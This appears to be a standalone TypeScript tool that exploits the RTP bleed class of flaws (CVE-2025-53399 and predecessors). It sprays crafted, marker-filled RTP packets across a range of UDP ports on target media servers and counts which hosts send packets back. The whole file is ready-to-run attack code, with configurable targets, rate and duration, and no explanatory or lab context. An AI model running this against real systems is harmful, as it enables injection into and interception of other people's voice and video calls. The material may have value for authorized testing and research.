import { createSocket } from "node:dgram";
import { text } from "node:stream/consumers";

/**
 * Sends RTP that belongs to nobody to every port of a range, round after round, for a time: what RTP bleed (CVE-2025-53399 and its
 * predecessors) lets a stranger do. Each payload is filled with `mark`. Prints how much was sent, and what came back.
 */
export interface SprayInput {
  targets: readonly string[];
  portMin: number;
  portMax: number;
  mark: number;
  /** Bounds of the whole thing. */
  seconds: number;
  packetsPerSecond: number;
}

export interface SprayReport {
  sent: number;
  /** Packets that came back: sender (`address:port`) → how many. */
  received: Record<string, number>;
}

const { targets, portMin, portMax, mark, seconds, packetsPerSecond } = JSON.parse(
  await text(process.stdin),
) as SprayInput;
const socket = createSocket("udp4");
const report: SprayReport = { sent: 0, received: {} };
socket.on("message", (_packet, { address, port: sender }) => {
  const source = `${address}:${sender}`;
  report.received[source] = (report.received[source] ?? 0) + 1;
});
const end = Date.now() + seconds * 1000;
const ports = portMax - portMin + 1;
const batch = Math.ceil(packetsPerSecond / 100);
for (let sequence = 1; Date.now() < end;) {
  for (let index = 0; index < batch; index++, sequence++) {
    const rtp = Buffer.alloc(172, mark);
    rtp.writeUInt16BE(0x8000, 0);
    rtp.writeUInt16BE(sequence % 0x10000, 2);
    rtp.writeUInt32BE(sequence * 160, 4);
    rtp.writeUInt32BE(0x6666, 8);
    socket.send(rtp, portMin + (sequence % ports), targets[Math.floor(sequence / ports) % targets.length]);
    report.sent += 1;
  }
  await new Promise((resolve) => setTimeout(resolve, 10));
}
socket.close();
console.log(JSON.stringify(report));
